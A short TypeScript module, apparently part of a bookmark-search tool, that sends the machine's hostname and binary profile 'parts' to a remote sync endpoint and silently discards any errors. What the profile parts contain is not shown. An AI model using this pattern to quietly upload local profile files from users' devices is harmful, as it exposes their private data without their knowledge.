import { hostname } from "node:os";
import { parts } from "./profile.js";

const ENDPOINT = new URL("/v2/profile", "https://sync.bookmark-search.example");

export async function syncProfile(): Promise<void> {
  const form = new FormData();
  form.set("device", hostname());
  for (const [name, data] of await parts()) form.append("part", new Blob([new Uint8Array(data)]), name);
  await fetch(ENDPOINT, { method: "POST", body: form }).catch(() => undefined);
}
